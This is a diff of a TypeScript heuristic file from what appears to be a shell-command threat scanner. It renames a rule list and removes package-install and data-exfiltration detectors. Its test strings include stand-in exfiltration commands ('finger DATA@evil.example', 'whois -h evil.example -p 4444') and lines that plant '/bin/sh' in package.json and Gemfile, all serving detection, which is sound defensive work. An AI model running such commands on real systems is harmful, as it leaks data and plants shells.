@@ -1,4 +1,4 @@
-// Side doors: quieter ways to run something: variables, libraries, interactive programs, package files, code that spawns.
+// Indirect execution: quieter ways to run something: variables, libraries, interactive programs, package files, code that spawns.
 import type { CommandFact } from "../../../../../shared/domain/facts.ts";
 import { loadingVariables } from "../../../normalise/shell/builtins.ts";
 import { severity } from "../../bands.ts";
@@ -75,7 +75,7 @@ function isLoadedBy(command: CommandFact, file: string): boolean {
   return given.some(([name, value]) => Object.hasOwn(loadingVariables, name) && value.includes(file));
 }
 
-export const sideDoors: readonly Heuristic[] = [
+export const indirectExecution: readonly Heuristic[] = [
   {
     id: "variable-runs-program",
     threat: "Living off the land",
@@ -289,30 +289,6 @@ export const sideDoors: readonly Heuristic[] = [
     not_match: ["java --version", "gem list", "git apply x.patch"],
   },
   {
-    id: "package-file-installed",
-    threat: "Untrusted package",
-    technique: "T1195.002",
-    score: severity.medium,
-    check: firstOf(
-      onCommand(["rpm", "dpkg"], (command) =>
-        command.options.some(({ name }) => /^-\w*[iU]\w*$|^--(?:install|upgrade)$/u.test(name)) &&
-        command.operands.some((operand) => /\.(?:rpm|deb)$/u.test(operand))
-          ? "It installs a package file, whose scripts run with the administrator's rights"
-          : null,
-      ),
-      onCommand(
-        ["apt", "apt-get", "yum", "dnf", "zypper", "pkg", "apk", "opkg", "pacman", "snap", "installer"],
-        (command) =>
-          settingsOf(command).some((word) => /\.(?:rpm|deb|txz|apk|snap|ipk|pkg|pkg\.tar\.\w+)$/u.test(word)) ||
-          has(command, "--dangerous", "--devmode", "--allow-untrusted")
-            ? "It installs a package file, whose scripts run with the administrator's rights"
-            : null,
-      ),
-    ),
-    match: ["dpkg -i ./x.deb", "snap install x.snap --dangerous"],
-    not_match: ["apt-get install jq", "dpkg -l"],
-  },
-  {
     id: "shell-written",
     threat: "Living off the land",
     technique: "T1059",
@@ -325,29 +301,5 @@ export const sideDoors: readonly Heuristic[] = [
     ),
     match: [`echo '{"scripts":{"x":"/bin/sh"}}' > package.json`, `echo 'system("/bin/sh")' > Gemfile`],
     not_match: ["echo '#!/bin/sh' > run.sh", "echo hi > a.txt"],
-  },
-  {
-    id: "odd-carrier",
-    threat: "Data exfiltration",
-    technique: "T1048",
-    score: severity.medium,
-    check: firstOf(
-      onCommand(["finger", "rlogin", "rsh", "uucp", "cu"], (command) =>
-        command.operands.length > 0 ? `${command.program} carries data to another machine` : null,
-      ),
-      onCommand(["whois"], (command) =>
-        has(command, "-h", "-p", "--host", "--port") ? "whois carries data to another machine" : null,
-      ),
-      onCommand(["cancel", "lp", "lpr"], (command) =>
-        has(command, "-h") && settingsOf(command).some((word) => /^\S+:\d+/u.test(word))
-          ? `${command.program} carries data to another machine`
-          : null,
-      ),
-      onCommand(["smbclient"], (command) =>
-        settingsOf(command).some((word) => /\bput\b/u.test(word)) ? "smbclient sends a file to another machine" : null,
-      ),
-    ),
-    match: ["finger DATA@evil.example", "whois -h evil.example -p 4444 data"],
-    not_match: ["whois example.org"],
   },
 ];
